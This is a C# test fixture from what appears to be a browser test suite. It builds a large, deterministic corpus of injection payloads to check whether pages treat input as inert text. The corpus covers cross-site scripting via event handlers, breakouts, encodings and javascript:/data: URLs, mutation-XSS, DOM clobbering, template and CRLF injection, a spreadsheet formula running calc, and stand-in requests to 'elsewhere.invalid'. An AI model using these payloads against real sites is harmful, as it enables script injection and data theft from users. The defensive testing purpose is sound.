using System.Text;
using Ingrain.Browser.Tests.Setup;

namespace Ingrain.Browser.Tests.Payloads;

/// <summary>
/// Texts that would do something in a page that takes them for more than text: run, ask others, go elsewhere, or change what a script of
/// the page relies on. Made by putting together what acts, what carries it, and how it may be spelt; the same in every run.
/// </summary>
internal static class Payload
{
    private const string Elsewhere = "https://elsewhere.invalid/";

    // What runs sets the canary, whatever else it does; single quotes only, so that it fits into an attribute.
    private static readonly string[] s_acts =
    [
        $"window.{Tab.Canary}=1", "alert(1)", $"top['{Tab.Canary}']=1", $"(()=>{{self.{Tab.Canary}=1}})()",
        $"fetch('{Elsewhere}')", $"location='{Elsewhere}'", $"open('{Elsewhere}')",
    ];

    private static readonly string[] s_breakouts =
    [
        "", "\">", "'>", "\"'>", "</textarea>", "</title>", "</script>", "</style>", "</select>", "</option></select>", "</code></pre>",
        "</svg>", "</math>", "</noscript>", "</template>", "</iframe>", "-->", "]]>", "--!><!-->", "</li></ul>", "</td></tr></table>",
        "</a>", "</form>", "</main></body>", "*/", "`", "\\\">", "%22%3E", "&quot;&gt;", "\u0000\">",
    ];

    private static readonly (string Tag, string Event)[] s_events =
    [
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
        ("video><source", "onerror"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"), ("a href=# autofocus", "onfocus"), ("div tabindex=1 autofocus", "onfocus"),
        ("details open", "ontoggle"), ("marquee", "onstart"), ("object data=x", "onerror"), ("embed src=x", "onload"),
        ("iframe", "onload"), ("link rel=stylesheet href=/", "onload"), ("style", "onload"), ("script src=x", "onerror"),
        ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"),
        ("math><mi", "onclick"), ("p style='animation:x 1s'", "onanimationstart"), ("p style='transition:1s'", "ontransitionend"),
        ("div", "onpointerover"), ("div", "onmouseenter"), ("div contenteditable", "oninput"), ("form", "onformdata"),
        ("input type=image src=x", "onerror"), ("frameset", "onload"), ("table background=x", "onerror"), ("dialog open", "onclose"),
        ("div popover", "onbeforetoggle"), ("div", "onscrollend"), ("div content-visibility=auto", "oncontentvisibilityautostatechange"),
    ];

    private static readonly Func<string, string>[] s_spellings =
    [
        t => t, t => t.ToUpperInvariant().Replace(Tab.Canary.ToUpperInvariant(), Tab.Canary, StringComparison.Ordinal),
        t => t.Replace(' ', '/'), t => t.Replace(' ', '\n'), t => t.Replace(' ', '\t'), t => t.Replace(' ', '\f'),
        t => t.Replace("<", "<\u0000", StringComparison.Ordinal), t => t.TrimEnd('>'), t => "<" + t, t => t.Replace(">", "//",
        StringComparison.Ordinal),
        t => t.Replace("<", "\\<", StringComparison.Ordinal), t => t.Replace("<", "&lt;", StringComparison.Ordinal),
        t => t.Replace("<", "&#60;", StringComparison.Ordinal), t => t.Replace("<", "&#x3c", StringComparison.Ordinal),
        t => t.Replace("<", "%3C", StringComparison.Ordinal), t => t.Replace("<", "\\u003c", StringComparison.Ordinal),
        t => t.Replace("<", "\uff1c", StringComparison.Ordinal), t => t.Replace("<", "+ADw-", StringComparison.Ordinal),
        t => t.Replace("=", "&#61;", StringComparison.Ordinal), t => t.Replace("s", "\u017f", StringComparison.Ordinal),
        t => "\u202e" + t, t => "    " + t, t => "\n\n" + t + "\n\n", t => "- " + t, t => "> " + t, t => "| " + t + " |\n|---|",
        t => "```html\n" + t + "\n```", t => "```\" onload=alert(1) x=\"\n" + t, t => "`` " + t + " ``", t => "# " + t, t => "**" + t
        + "**",
    ];

    private static readonly string[] s_schemes =
    [
        "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java\nscript:{0}", "\u0001javascript:{0}", " javascript:{0}",
        "&#106;avascript:{0}", "&#x6A;avascript:{0}", "javascript&colon;{0}", "javascript&#58;{0}", "%6Aavascript:{0}",
        "javascript://%0a{0}",
        "javascript:/*-->*/{0}", "vbscript:{0}", "data:text/html,<script>{0}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'/>", "blob:" + Elsewhere, "file:///etc/passwd",
        "view-source:" + Elsewhere, "//elsewhere.invalid/{0}", "\\\\elsewhere.invalid\\x", "/\\elsewhere.invalid/",
        "https:elsewhere.invalid",
        "https://127.0.0.1@elsewhere.invalid/", "ftp://elsewhere.invalid/", "ws://elsewhere.invalid/", "intent://x#Intent;end",
        "feed:javascript:{0}", "jar:" + Elsewhere, "about:blank", "chrome://settings", "\u202ejavascript:{0}",
        "https://elsewhere.invalid/?x=\"onclick={0}",
    ];

    private static readonly string[] s_carriers =
    [
        "[a link]({0})", "[a link](<{0}>)", "![a picture]({0})", "![a picture](<{0}> \"title\")", "<{0}>", "[one]: {0}\n\n[one]",
        "![two][two]\n\n[two]: {0}",
        "[![both]({0})]({0})", "[x]({0} 'title\" onmouseover=\"alert(1)')", "<a href=\"{0}\">x</a>", "<a href={0}>x", "<img src=\"{0}\">",
        "<iframe src=\"{0}\"></iframe>", "<form action=\"{0}\"><button>x</button></form>", "<object data=\"{0}\"></object>",
        "<embed src=\"{0}\">", "<base href=\"{0}\">", "<link rel=stylesheet href=\"{0}\">",
        "<meta http-equiv=refresh content=\"0;url={0}\">",
        "<svg><a xlink:href=\"{0}\"><text>x</text></a></svg>", "<svg><use href=\"{0}#x\"/></svg>",
        "<button formaction=\"{0}\" form=f>x</button>", "{0}",
    ];

    private static readonly string[] s_asking =
    [
        "<img srcset='{0} 1x, {0}2 2x'>", "<picture><source srcset='{0}'><img></picture>", "<video poster='{0}'></video>",
        "<audio src='{0}' autoplay></audio>",
        "<video><track src='{0}' default></video>", "<link rel=prefetch href='{0}'>", "<link rel=preconnect href='{0}'>",
        "<link rel=dns-prefetch href='{0}'>",
        "<link rel=modulepreload href='{0}'>", "<link rel=icon href='{0}'>", "<link rel=manifest href='{0}'>",
        "<style>@import '{0}';</style>",
        "<style>*{{background:url({0})}}</style>", "<p style=\"background:url('{0}')\">x</p>", "<p style='list-style:url({0})'>x</p>",
        "<svg><image href='{0}'/></svg>", "<svg><feImage href='{0}'/></svg>", "<body background='{0}'>",
        "<table><td background='{0}'></table>",
        "<input type=image src='{0}'>", "<script src='{0}'></script>", "<script type=module src='{0}'></script>",
        "<iframe src='{0}'></iframe>",
        "<iframe srcdoc=\"<img src='{0}'>\"></iframe>", "<frameset><frame src='{0}'></frameset>", "<a ping='{0}' href=/>x</a>",
        "<portal src='{0}'></portal>",
        "<meta http-equiv=refresh content='0;{0}'>", "<meta http-equiv=Content-Security-Policy content=\"default-src *; report-uri {0}\">",
        "<html manifest='{0}'>", "<applet code='{0}'></applet>", "<bgsound src='{0}'>",
        "<form action='{0}' id=f><input name=x autofocus></form>",
        "<style>@font-face{{font-family:x;src:url({0})}}*{{font-family:x}}</style>", "<style>:visited{{cursor:url({0}),auto}}</style>",
        "![]({0})", "![x]({0}?text=secret)", "[![x]({0})](/)", "![x][r]\n\n[r]: {0}", "<{0}>",
        "<template><img src='{0}'></template>", "<template shadowrootmode=open><img src='{0}'></template>",
        "<noscript><img src='{0}'></noscript>",
    ];

    // Two parsers that see different trees in one text.
    private static readonly string[] s_mutations =
    [
        "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<svg></p><style><a id=\"</style><img src=x onerror={0}>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={0}&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
        "<svg><foreignObject><body onload={0}></foreignObject></svg>",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={0}></style></annotation-xml></math>",
        "<xmp><p title=\"</xmp><img src=x onerror={0}>\">", "<textarea><img title=\"</textarea><img src=x onerror={0}>\">",
        "<title><img title=\"</title><img src=x onerror={0}>\">", "<style><img title=\"</style><img src=x onerror={0}>\">",
        "<!--><img src=x onerror={0}>-->", "<!-- --!><img src=x onerror={0}>", "<![CDATA[<img src=x onerror={0}>]]>",
        "<?xml-stylesheet ><img src=x onerror={0}> ?>",
        "<a href=\"x\" title=\"`><img src=x onerror={0}>`\">x</a>", "<select><template><img src=x onerror={0}></template></select>",
        "<table><tr><td><svg><desc><td><img src=x onerror={0}></desc></svg></td></tr></table>", "<plaintext><img src=x onerror={0}>",
        "<svg><script>{0}</script></svg>", "<svg><script href='data:,{0}'/></svg>",
        "<svg><style>&lt;/style&gt;&lt;img src=x onerror={0}&gt;</style></svg>",
        "<script>{0}</script>", "<script\n>{0}</script\n>", "<scr<script>ipt>{0}</scr</script>ipt>", "<SCRIPT>{0}</SCRIPT>",
        "<script/x>{0}</script>",
        "<script type=text/plain>x</script><script>{0}</script>", "<<script>{0}//<</script>", "<script>\u2028{0}</script>",
        "<!DOCTYPE x [<!ENTITY y '<script>{0}</script>'>]>",
    ];

    private static readonly string[] s_clobbering =
    [
        "<form id=test><input name=attributes></form>", "<form name=body><input id=children></form>", "<img name=cookie>",
        "<a id=location href=x>x</a>",
        "<form id=getElementById></form>", "<input name=csrf value=x><input name=__RequestVerificationToken value=x>",
        "<base target=_blank>",
        "<a id=defaultView><a id=defaultView name=x>", "<iframe name=self></iframe>", "<object name=document></object>",
        "<svg id=querySelector>",
        "<dialog open>covers all</dialog>", "<style>body{display:none}</style>",
        "<div style='position:fixed;inset:0;z-index:9999'>covers all</div>",
        "<input type=password name=token autofocus>", "<label for=query>Sign in again: <input></label>",
        "<main><h1>Another page</h1></main>",
    ];

    private static readonly string[] s_templates =
    [
        "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "#{window.pwned=1}", "<%= window.pwned=1 %>",
        "{% window.pwned=1 %}",
        "@(1+1)@{ throw new Exception(); }", "@Html.Raw(\"<script>\")", "@code { }", "*{1+1}", "[[${1+1}]]", "{{7*7}}",
        "{!window.pwned=1!}", "<?php echo 1 ?>",
        "{0}{1}{2:x}", "%s%n%x", "<!--#exec cmd=\"id\"-->", "<ng-app ng-csp><x ng-focus=$event.view.pwned=1 autofocus tabindex=0>",
        "v-html=\"pwned=1\"",
        "<div x-data x-init='window.pwned=1'>", "<div hx-get='https://elsewhere.invalid/' hx-trigger=load>", "\"-window.pwned=1-\"",
        "';window.pwned=1;//",
        "\\';window.pwned=1;//", "</script><script>window.pwned=1</script>", "\u2028window.pwned=1//", "<!--<script>", "__proto__",
        "constructor", "toString",
        "\r\nSet-Cookie: a=b\r\n\r\n<script>window.pwned=1</script>", "=cmd|' /C calc'!A0", "\u001b]8;;https://elsewhere.invalid\u0007x",
        "%00", "\ufeff<script>window.pwned=1</script>",
    ];

    /// <summary>The few that break the most pages, short enough for a name.</summary>
    public static IReadOnlyList<string> Short { get; } =
    [
        "<script>pwned=1</script>", "<img src=x onerror=pwned=1>", "\"><svg onload=pwned=1>", "'><svg onload=pwned=1>",
        "\" autofocus onfocus=\"pwned=1", "' autofocus onfocus='pwned=1", "</title><script>pwned=1</script>",
        "</textarea><svg onload=pwned=1>",
        "javascript:pwned=1", "[x](javascript:pwned=1)", "![](https://elsewhere.invalid/)", "&lt;script&gt;pwned=1&lt;/script&gt;",
        "{{constructor.constructor('pwned=1')()}}", "<base href=https://elsewhere.invalid/>",
        "<meta http-equiv=refresh content=0;https://elsewhere.invalid/>",
        "<iframe srcdoc='<script>top.pwned=1</script>'>", "<form action=https://elsewhere.invalid/ id=x><button>Sign in</button>",
        "<a id=x href=//elsewhere.invalid/>here</a>", "--><svg onload=pwned=1>", "<style>*{display:none}</style>",
    ];

    /// <summary>All of them. Made last: it puts the others together.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Make().Distinct(StringComparer.Ordinal)];

    private static IEnumerable<string> Make()
    {
        foreach (var text in Short) yield return text;
        foreach (var text in s_clobbering.Concat(s_templates)) yield return text;
        foreach (var (tag, when) in s_events)
            foreach (var act in s_acts.Take(3)) yield return $"<{tag} {when}={act}>";
        foreach (var (tag, when) in s_events)
            foreach (var spell in s_spellings) yield return spell($"<{tag} {when}=\"{s_acts[0]}\">");
        foreach (var breakout in s_breakouts)
            foreach (var (tag, when) in s_events.Take(3)) yield return $"{breakout}<{tag} {when}={s_acts[0]}>";
        foreach (var breakout in s_breakouts) yield return $"{breakout}<script>{s_acts[3]}</script>";
        foreach (var quote in "\"'` ")
            foreach (var act in s_acts) yield return $"x{quote} autofocus tabindex=1 onfocus={quote}{act}{quote} x={quote}";
        foreach (var mutation in s_mutations)
            foreach (var act in s_acts.Take(2)) yield return Filled(mutation, act);
        foreach (var spell in s_spellings)
            foreach (var mutation in s_mutations.TakeLast(9)) yield return spell(Filled(mutation, s_acts[0]));
        foreach (var ask in s_asking) yield return Filled(ask.Replace("{{", "{", StringComparison.Ordinal).Replace("}}", "}",
            StringComparison.Ordinal), Elsewhere);
        foreach (var carrier in s_carriers)
            foreach (var scheme in s_schemes) yield return Filled(carrier, Filled(scheme, s_acts[1]));
    }

    private static string Filled(string form, string with) => new StringBuilder(form).Replace("{0}", with).ToString();
}
